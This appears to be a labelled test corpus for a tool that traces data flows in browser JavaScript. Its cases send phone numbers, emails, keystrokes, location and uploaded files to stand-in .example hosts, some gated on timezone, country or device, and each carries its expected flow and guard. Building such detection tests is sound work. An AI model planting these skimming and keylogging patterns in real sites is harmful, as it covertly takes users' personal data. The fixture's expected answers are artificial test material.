//# callback-handed-on-twice
// flow: phone > cht.g11.example via fetch
// guard: timezone starts-with Europe/
function soon(f) { requestAnimationFrame(f); }
function ifEurope(f) { if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Europe/')) soon(f); }
ifEurope(() => fetch('https://cht.g11.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value }));

//# near-callback-of-another-helper
// flow: phone > nch.g11.example via fetch
// no guard
// why: the guarded helper gets another function
function plain(f) { setTimeout(f, 10); }
function inEurope(f) { if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Europe/')) f(); }
inEurope(() => console.log('eu'));
plain(() => fetch('https://nch.g11.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value }));

//# table-method-by-kind
// flow: search > tmk.g11.example via fetch
// guard: server-answer equals remote
const modes = {
  local(q) { document.querySelector('#hits').textContent = q; },
  remote(q) { return fetch('https://tmk.g11.example/?q=' + encodeURIComponent(q)); },
};
fetch('/search.json').then((r) => r.json()).then((conf) => {
  const run = modes[conf.mode];
  run(document.querySelector('input[type=search]').value);
});

//# table-with-constant-key
// no flow
const modes4 = {
  local(q) { document.querySelector('#hits').textContent = q; },
  remote(q) { return fetch('https://twc.g11.example/?q=' + encodeURIComponent(q)); },
};
modes4['local'](document.querySelector('input[type=search]').value);

//# for-loop-condition
// flow: device > flc.g11.example via beacon
// guard: user-agent contains Android
for (var i = 0; i < 2 && navigator.userAgent.indexOf('Android') > -1; i++) navigator.sendBeacon('https://flc.g11.example/' + i, screen.width);

//# near-loop-that-only-counts
// flow: device > nlc.g11.example via beacon
// no guard
let left = 2;
while (left-- > 0) navigator.sendBeacon('https://nlc.g11.example/', navigator.platform);

//# list-of-predicates-some
// flow: email > lps.g11.example via fetch
// guard: not language starts-with de
const outs = [() => navigator.language.startsWith('de')];
if (outs.some((t) => t())) throw new Error('elsewhere');
fetch('https://lps.g11.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# mode-set-under-condition
// flow: interaction > msc.g11.example via beacon
// guard: country equals CN
let mode8 = 'quiet';
if (document.documentElement.getAttribute('data-country') === 'CN') mode8 = 'record';
document.addEventListener('click', (e) => {
  if (mode8 === 'record') navigator.sendBeacon('https://msc.g11.example/', e.pageX + ':' + e.pageY);
});

//# near-mode-always-set
// flow: interaction > nma.g11.example via beacon
// no guard
// why: the mode is set whatever the language is
let mode9 = 'quiet';
if (navigator.language === 'ja') console.log('ja');
mode9 = 'record';
document.addEventListener('click', (e) => {
  if (mode9 === 'record') navigator.sendBeacon('https://nma.g11.example/', e.pageX + ':' + e.pageY);
});

//# pattern-two-deep-of-answer
// flow: username > ptd.g11.example via fetch
// guard: server-answer equals full
fetch('/me').then((r) => r.json()).then((body) => {
  const { plan: { level } } = body;
  if (level === 'full') fetch('https://ptd.g11.example/', { method: 'POST', body: document.querySelector('input[name=username]').value });
});

//# orientation-query-listener
// flow: location > oql.g11.example via fetch
// guard: screen other
const portrait = matchMedia('(orientation: portrait)');
navigator.geolocation.getCurrentPosition((p) => {
  if (portrait.matches) fetch('https://oql.g11.example/?l=' + p.coords.latitude);
});

//# near-colour-scheme-query
// flow: search > ncq.g11.example via fetch
// no guard
// why: the scheme decides about a class only
if (matchMedia('(min-width: 800px)').matches) document.body.classList.add('wide');
fetch('https://ncq.g11.example/?q=' + document.querySelector('input[type=search]').value);

//# save-data-negated
// flow: file > sdn.g11.example via fetch
// guard: not connection present
const net = navigator.connection;
document.querySelector('input[type=file]').onchange = (e) => {
  if (net && net.saveData) return;
  fetch('https://sdn.g11.example/', { method: 'PUT', body: e.target.files[0] });
};

//# promise-resolved-by-listener
// flow: email > prl.g11.example via fetch
// guard: consent present
const allowed = new Promise(function (resolve) {
  window.addEventListener('CookiebotOnAccept', function () { if (Cookiebot.consent.marketing) resolve(true); });
});
allowed.then(function () { fetch('https://prl.g11.example/', { method: 'POST', body: document.querySelector('input[type=email]').value }); });

//# event-handed-to-method
// flow: keystrokes > ehm.g11.example via beacon
// guard: event keydown
class Keys {
  constructor(el) { el.addEventListener('keydown', (ev) => this.note(ev, Date.now())); }
  note(ev, at) { navigator.sendBeacon('https://ehm.g11.example/', ev.key + '@' + at); }
}
new Keys(document.body);

//# near-event-handed-constant
// no flow
// why: the method that sends is given an object of its own
class Keys16 {
  constructor(el) { el.addEventListener('keydown', (ev) => this.count(ev)); this.note({ key: 'none' }); }
  count(ev) { if (ev.key) this.n = (this.n || 0) + 1; }
  note(ev) { navigator.sendBeacon('https://nec.g11.example/', ev.key); }
}
new Keys16(document.body);

//# jquery-keypress-shorthand
// flow: keystrokes > jks.g11.example via xhr
$('body').keypress(function (e) { $.get('https://jks.g11.example/k', { c: String.fromCharCode(e.which) }); });

//# handle-event-of-instance
// flow: interaction > hei.g11.example via beacon
// guard: event pointermove
class Trail {
  start() { window.addEventListener('pointermove', this, { passive: true }); }
  handleEvent(e) { navigator.sendBeacon('https://hei.g11.example/', e.clientX + ',' + e.clientY); }
}
new Trail().start();
